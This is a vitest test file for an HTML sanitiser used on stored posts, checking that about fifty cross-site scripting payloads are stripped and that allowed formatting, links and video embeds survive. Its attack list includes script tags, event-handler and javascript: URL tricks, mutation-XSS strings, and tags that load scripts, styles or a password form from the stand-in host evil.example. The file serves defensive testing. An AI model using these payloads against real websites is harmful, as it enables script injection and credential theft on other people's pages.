import { postLimits } from '@institute/contract/posts.constants';
import { describe, expect, test } from 'vitest';
import { readData, readRefusal, requireSuccess } from '../../../testing/app/answers.ts';
import { useTestApp } from '../../../testing/app/test-app.ts';
import { cleanPostHtml } from './post-html.ts';

const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" />',
  '<img src=`x` onerror=alert(1)//',
  '<img/src="x"/onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href=" &#1; javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<img src="//evil.example/x.png">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe src="https://www.youtube.com/redirect?q=https://evil.example"></iframe>',
  '<iframe src="https://www.youtube.com/embed/../redirect?q=https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="//www.youtube.com.evil.example/embed/x"></iframe>',
  '<object data="x.swf"></object>',
  '<embed src="x.swf">',
  '<form action="https://evil.example"><input name=password><button>x</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<body onload=alert(1)>',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<p style="position:fixed;top:0;background:url(https://evil.example)">x</p>',
  '<div style="width:expression(alert(1))">x</div>',
  '<p id="root" class="fixed inset-0" data-x="y">x</p>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<input autofocus onfocus=alert(1)>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<template><script>alert(1)</script></template>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<p>"><img src=x onerror=alert(1)></p>',
];

const tag =
  /^<\/?(?:h[2-4]|p|br|hr|ul|ol|li|blockquote|pre|code|strong|b|em|i|u|s|del|ins|sub|sup|mark|small|abbr|a|img|figure|figcaption|iframe|table|thead|tbody|tr|th|td)(?=[\s/>])/;
const harm = [
  /\son\w+\s*=/i,
  /\s(?:style|class|id|srcdoc|formaction|data-\w+)\s*=/i,
  /(?:href|src)="\s*(?:\w*script:|data:|\/\/|https:\/\/(?!www\.youtube(?:-nocookie)?\.com\/embed\/[\w-]+[?"]))/i,
];

/** Checks each tag alone, because text and titles may contain anything. */
function expectHarmless(html: string): void {
  for (const found of html.match(/<(?:"[^"]*"|[^>"])*>?/g) ?? []) {
    expect(found).toMatch(tag);
    const names = found.replace(/"[^"]*"/g, '""');
    for (const pattern of harm)
      expect(`${names} ${found.match(/(?:href|src)="[^"]*"/g)}`).not.toMatch(pattern);
  }
}

test.each(attacks)('makes %j harmless', (html) => {
  const clean = cleanPostHtml(`<p>Before</p>${html}`);
  expectHarmless(clean);
  // A second run changes nothing
  expect(cleanPostHtml(clean)).toBe(clean);
});

test.each([
  '<h2>Title</h2><p>Text with <strong>bold</strong>, <em>italic</em> and <u>underlined</u>.</p>',
  '<ul><li>One</li><li>Two</li></ul><ol><li>Three</li></ol>',
  '<ol start="4"><li>Four</li></ol><ol type="a"><li>Five</li></ol>',
  '<blockquote><p>Said</p></blockquote>',
  '<table><thead><tr><th>A</th></tr></thead><tbody><tr><td colspan="2">1</td></tr></tbody></table>',
  '<p>Fish &amp; chips, 1 &lt; 2</p>',
])('keeps %j', (html) => expect(cleanPostHtml(html)).toBe(html));

test('words of blocks that are not allowed stay apart', () => {
  expect(
    cleanPostHtml(
      '<section><h5>Day</h5><div>Monday</div><div>9 <span>to</span> 4</div></section><dl><dt>Fee<dd>Free</dl>',
    ),
  ).toBe('Day Monday 9 to 4 Fee Free');
});

test('links stay, and the opened page gets no opener', () => {
  expect(cleanPostHtml('<a href="https://example.org" target="_blank">x</a>')).toBe(
    '<a href="https://example.org" target="_blank" rel="noopener noreferrer">x</a>',
  );
  for (const href of ['/programs/1', 'mailto:office@example.org', 'tel:+256700000000']) {
    expect(cleanPostHtml(`<a href="${href}">x</a>`)).toContain(`href="${href}"`);
  }
});

test('links within another document are text, and redirects lead to their aim', () => {
  expect(cleanPostHtml('<p>Fees<a href="#_ftn1">[1]</a></p>')).toBe('<p>Fees[1]</p>');
  expect(
    cleanPostHtml('<a href="https://www.google.com/url?q=https%3A%2F%2Fexample.org%2Fa&sa=D">x</a>'),
  ).toBe('<a href="https://example.org/a" rel="noopener noreferrer">x</a>');
  expect(cleanPostHtml('<a href="https://www.google.com/url?q=javascript:alert(1)">x</a>')).toContain(
    'google.com',
  );
});

test('images and players of the video host stay', () => {
  expect(cleanPostHtml('<img src="/uploads/a.webp" alt="A">')).toContain('src="/uploads/a.webp" alt="A"');
  const player = cleanPostHtml('<iframe src="https://www.youtube-nocookie.com/embed/abcdefghijk"></iframe>');
  expect(player).toContain('src="https://www.youtube-nocookie.com/embed/abcdefghijk"');
  // Pages only allow frames of the host without cookies
  expect(cleanPostHtml(player.replace('-nocookie', ''))).toBe(player);
});

describe('over REST', async () => {
  const t = await useTestApp();

  test('stored content is sanitised, on create and on change', async () => {
    const body = { title: 'T', content: `<p>Fine</p>${attacks.join('')}` };
    const created = await readData(t.office.api.posts.create({ body }));
    const changed = await readData(t.office.api.posts.update({ params: { id: created.id }, body }));
    const rows = await t.sql<{ content: string }>('select content from posts');
    for (const content of [created.content, changed.content, rows[0]?.content ?? '']) {
      expect(content).toContain('<p>Fine</p>');
      expectHarmless(content);
    }
  });

  test('content that is empty after sanitising is refused as missing', async () => {
    for (const content of ['<script>alert(1)</script>', '<iframe src="https://evil.example"></iframe>']) {
      expect(await readRefusal(t.office.api.posts.create({ body: { title: 'T', content } }))).toMatchObject({
        status: 400,
        details: [{ path: 'content', message: 'This is required' }],
      });
    }
  });

  test('tags that are nested deeper than a text needs are refused, wherever their ends stand', async () => {
    const write = (depth: number, words: string) => {
      const content = `${'<b title="</b>">'.repeat(depth)}${words}`;
      return t.office.api.posts.create({ body: { title: 'T', content } });
    };
    for (const words of ['x', 'word '.repeat(10_000)]) {
      await requireSuccess(write(postLimits.depth, words));
      expect(await readRefusal(write(postLimits.depth + 1, words))).toMatchObject({
        status: 400,
        details: [
          {
            path: 'content',
            message: 'Tags within each other: at most 200. Paste the text without its format.',
          },
        ],
      });
    }
  });

  test('a text as long as may be is sanitised in a thread of its own, as a short one is', async () => {
    const filled = `${attacks.join('')}${'<p onclick="x()">Fine &amp; long</p>'.repeat(5000)}`;
    const body = { title: 'T', content: filled };
    const { content } = await readData(t.office.api.posts.create({ body }));
    expect(content).toBe(cleanPostHtml(filled));
    expectHarmless(content);
  });

  test('the search ignores tags', async () => {
    await t.given.post({ title: 'Found', content: '<p>Graduates in <strong>gowns</strong></p>' });
    const total = async (q: string) =>
      (await requireSuccess(t.visitor.api.posts.list({ query: { q } }))).body.meta.total;
    expect([await total('gowns'), await total('strong')]).toEqual([1, 0]);
    // The office's search has an index even for two letters
    const inOffice = async (q: string) => (await t.office.admin.posts.list.query({ q })).total;
    expect([await inOffice('gowns'), await inOffice('Ow'), await inOffice('<s')]).toEqual([1, 1, 0]);
  });

  test("the office's list has the beginning of a text instead of the whole", async () => {
    const { id } = await t.given.post({ title: 'Long', content: `<p>${'word <b>x</b> '.repeat(500)}</p>` });
    const [item] = (await t.office.admin.posts.list.query({ q: 'Long', limit: 1 })).items;
    expect(item).toMatchObject({ id, title: 'Long', status: 'published' });
    expect(item?.excerpt).toMatch(/^(word x ){20}/);
    expect(JSON.stringify(item).length).toBeLessThan(1000);
  });
});

test('marked, small and short words stay, and nothing else of their tags', () => {
  const html = '<p><mark>New</mark> <small>from</small> <abbr title="National award">UVTAB</abbr></p>';
  expect(cleanPostHtml(html.replace('<mark>', '<mark onclick="x()" style="color:red">'))).toBe(html);
});

test('struck words stay struck, whatever their tag is', () => {
  expect(
    cleanPostHtml(
      '<p><del>900,000</del><ins datetime="2026-01-01T10:00">800,000</ins> <strike>Bus</strike></p>',
    ),
  ).toBe('<p><del>900,000</del><ins>800,000</ins> <s>Bus</s></p>');
});
